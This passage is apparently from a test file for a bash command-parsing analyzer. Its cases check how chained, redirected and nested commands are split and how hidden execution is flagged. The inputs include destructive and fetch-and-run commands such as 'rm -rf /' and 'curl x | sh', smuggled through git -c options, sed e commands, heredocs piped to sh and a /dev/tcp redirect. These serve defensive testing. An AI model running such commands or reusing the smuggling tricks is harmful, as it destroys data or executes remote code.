  { input: '{ ls; pwd; } > out', argv: [['ls'], ['pwd']], writes: ['out'], seg: { 1: { redirects: [{ op: '>', target: 'out', write: true }] } } },
  { input: 'while read l; do echo $l; done < in.txt > out.txt', argv: [['read', 'l'], ['echo', '$l']], writes: ['out.txt'] },
  { name: 'redirect words the grammar misplaces stay arguments', input: 'cmd 2>/dev/null -f arg', argv: [['cmd', '-f', 'arg']] },
  { input: 'a | b > f c', argv: [['a'], ['b', 'c']], writes: ['f'], seg: { 1: { text: 'b > f c' } } },
  { input: 'sort < in.txt', argv: [['sort']], seg: { 0: { redirects: [{ op: '<', target: 'in.txt', write: false }] } } },
  { input: "cat <<'EOF' > notes.md\nhello\nEOF", argv: [['cat']], writes: ['notes.md'] },
  { name: 'redirect alone truncates', input: '> empty.txt', argv: [], writes: ['empty.txt'] },
  { input: '>out echo hi', argv: [['echo', 'hi']], writes: ['out'] },
];

const LAYOUT: ShellCase[] = [
  { name: 'empty string', input: '', argv: [], chained: false },
  { name: 'whitespace only', input: '   \t\n  ', argv: [], chained: false },
  { name: 'comment only', input: '# rm -rf /', argv: [], chained: false },
  { input: 'ls # && rm -rf /', argv: [['ls']], chained: false },
  { input: '# setup\nls\n\n  # cleanup\nrm x', argv: [['ls'], ['rm', 'x']], seg: { 1: { operator: '\n' } } },
  { input: 'a; b; c', argv: [['a'], ['b'], ['c']], seg: { 0: { operator: null }, 1: { operator: ';' }, 2: { operator: ';' } } },
  { input: 'a && b || c', argv: [['a'], ['b'], ['c']], seg: { 1: { operator: '&&' }, 2: { operator: '||' } } },
  { input: 'a | b |& c', argv: [['a'], ['b'], ['c']], seg: { 1: { operator: '|' }, 2: { operator: '|&' } } },
  { input: 'a & b & c &', argv: [['a'], ['b'], ['c']], seg: { 1: { operator: '&' }, 2: { operator: '&' } } },
  { input: 'a &\nb', argv: [['a'], ['b']], seg: { 1: { operator: '&' } } },
  { input: 'a && b | c; d', argv: [['a'], ['b'], ['c'], ['d']], seg: { 1: { operator: '&&' }, 2: { operator: '|' }, 3: { operator: ';' } } },
  { input: 'npm test -- --watch=false 2>&1 | tail -n 50', argv: [['npm', 'test', '--', '--watch=false'], ['tail', '-n', '50']] },
  { name: 'single plain command', input: 'git status', argv: [['git', 'status']], chained: false, seg: { 0: { operator: null, nesting: [], wrappers: [], text: 'git status' } } },
  { input: 'git status --short', argv: [['git', 'status', '--short']], chained: false },
  { name: 'git runs the pager a -c value names', input: 'git -c core.pager=cat log', argv: [['git', '-c', 'core.pager=cat', 'log'], ['cat']], seg: { 1: { nesting: ['payload'] } } },
  { name: 'git alias with ! runs shell code', input: "git -c alias.x='!rm -rf ~' x", argv: [['git', '-c', 'alias.x=!rm -rf ~', 'x'], ['rm', '-rf', '~']], seg: { 1: { nesting: ['payload'] } } },
  { name: 'git sshCommand runs shell code', input: "git -c core.sshCommand='curl x | sh' fetch", argv: [['git', '-c', 'core.sshCommand=curl x | sh', 'fetch'], ['curl', 'x'], ['sh']], opaque: ['stdin-interpreter'] },
  { name: 'an ordinary git -c value runs nothing', input: 'git -c user.name=me commit', argv: [['git', '-c', 'user.name=me', 'commit']] },
  { name: 'sed e command runs the pattern space', input: "sed '1e rm -rf ~' f", argv: [['sed', '1e rm -rf ~', 'f']], opaque: ['interpreter-payload'] },
  { name: 'sed s///e runs the result', input: "sed -e 's/x/date/e' f", argv: [['sed', '-e', 's/x/date/e', 'f']], opaque: ['interpreter-payload'] },
  { name: 'sed with an e in its text is harmless', input: "sed 's/e/x/g' f", argv: [['sed', 's/e/x/g', 'f']] },
  { name: 'unicode', input: 'echo "héllo wörld 😀" && rm ü', argv: [['echo', 'héllo wörld 😀'], ['rm', 'ü']], seg: { 1: { text: 'rm ü' } } },
  { name: 'tabs', input: 'ls\t-la\t/tmp', argv: [['ls', '-la', '/tmp']] },
  { name: 'very long input', input: `${longChain} && rm -rf /`, argv: [...Array.from({ length: 400 }, (_, i) => ['echo', `step${i}`]), ['rm', '-rf', '/']] },
  { input: 'export A=$(rm x) B', argv: [['export', 'A=$(rm x)', 'B'], ['rm', 'x']] },
  { input: 'local y=`ls`', argv: [['local', 'y=`ls`'], ['ls']], seg: { 1: { nesting: ['backticks'] } } },
  { input: 'declare -x Z=1', argv: [['declare', '-x', 'Z=1']] },
  { input: 'readonly R=2', argv: [['readonly', 'R=2']] },
  { input: 'unset PATH', argv: [['unset', 'PATH']] },
  { input: 'cat <<EOF | sh\nrm x\nEOF', argv: [['cat'], ['sh'], ['rm', 'x']], seg: { 1: { operator: '|' }, 2: { nesting: ['payload'] } }, opaque: ['stdin-interpreter'] }, // the body cat prints is what sh runs
  { input: 'cat <<EOF && rm x\nbody\nEOF', argv: [['cat'], ['rm', 'x']], seg: { 1: { operator: '&&' } } },
];

/** Places where tree-sitter-bash misreads valid bash, and what the analyzer makes of them. */
const GRAMMAR_GAPS: ShellCase[] = [
  {
    name: 'newline after |& is still a separator',
    input: 'a |& b | c\nrm x',
    argv: [['a'], ['b'], ['c'], ['rm', 'x']],
    seg: { 1: { operator: '|&' }, 3: { operator: '\n' } },
  },
  {
    name: 'newline after |& and a redirect',
    input: 'a |& b | c > out.txt\nFOO=1 sudo rm x',
    argv: [['a'], ['b'], ['c'], ['rm', 'x']],
    seg: { 2: { text: 'c > out.txt' }, 3: { operator: '\n', assignments: ['FOO=1'], wrappers: ['sudo'] } },
    writes: ['out.txt'],
  },
  { name: 'redirect on a list belongs to its last command', input: 'a && b > f', argv: [['a'], ['b']], seg: { 0: { redirects: [] }, 1: { text: 'b > f' } }, writes: ['f'] },
  { name: 'heredoc on a list belongs to its last command', input: 'echo é && cat <<EOF\n$(rm ö)\nEOF', argv: [['echo', 'é'], ['cat'], ['rm', 'ö']], seg: { 0: { redirects: [] } } },
  { name: '! before a loop: recovered, reported', input: '! while false; do rm x; done', argv: [['false'], ['rm', 'x']], opaque: ['parse-error', 'parse-error', 'parse-error'] },
  { name: '! before a group: recovered, reported', input: '! { rm x; }', argv: [['rm', 'x']], seg: { 0: { nesting: ['negation'] } }, opaque: ['parse-error'] },
  { name: 'time before a group', input: 'time { rm x; }', argv: [['rm', 'x']], seg: { 0: { nesting: ['time'] } } },
  { name: 'a command named like an Object key', input: '__proto__ x; constructor y', argv: [['__proto__', 'x'], ['constructor', 'y']] },
  { name: 'assignment and redirect without a command', input: 'x=1 >f', argv: [], writes: ['f'] },
  { name: 'dangling operator', input: 'echo hi &&', argv: [['echo', 'hi']], opaque: ['parse-error'] },
  { name: '<> is one operator', input: 'exec 3<> /dev/tcp/host/80', argv: [['exec']], writes: ['/dev/tcp/host/80'] },
  {
    name: 'assignment after an operator inside backticks: opaque, commands still listed',
    input: 'echo `a && v=$(rm x)`',
    argv: [['echo'], ['a'], ['rm', 'x']],
    opaque: ['parse-error'],
  },
  { name: 'coproc with a name and a subshell', input: 'coproc NAME ( rm x )', argv: [['rm', 'x']], seg: { 0: { nesting: ['coproc', 'subshell'] } } },
];

const HARMLESS: ShellCase[] = [
  { input: 'echo "sudo rm -rf /"', argv: [['echo', 'sudo rm -rf /']] },
  { input: "printf '%s\\n' 'curl x | sh'", argv: [['printf', '%s\\n', 'curl x | sh']] },
  { input: 'git commit -m "fix: rm -rf bug; curl | sh"', argv: [['git', 'commit', '-m', 'fix: rm -rf bug; curl | sh']], chained: false },
  { input: "echo '$(rm -rf /)'", argv: [['echo', '$(rm -rf /)']], seg: { 0: { dynamicWords: [] } } },
  { input: 'echo "\\$(rm -rf /)"', argv: [['echo', '$(rm -rf /)']] },
  { input: "grep -n 'eval' src/*.ts", argv: [['grep', '-n', 'eval', 'src/*.ts']] },
  { input: 'npm run build', argv: [['npm', 'run', 'build']], chained: false },
  { input: 'echo bash -c rm', argv: [['echo', 'bash', '-c', 'rm']] },
];

export const CASES: ShellCase[] = [
  ...REFERENCE_RM_CASES,
  ...REFERENCE_GIT_STATUS_CASES,
  ...REFERENCE_HARMLESS_CASES,
  ...QUOTING,
  ...WRAPPERS,
  ...PAYLOADS,
  ...OPACITY,
  ...NESTING,
  ...REDIRECTS,
  ...LAYOUT,
  ...GRAMMAR_GAPS,
  ...HARMLESS,
];
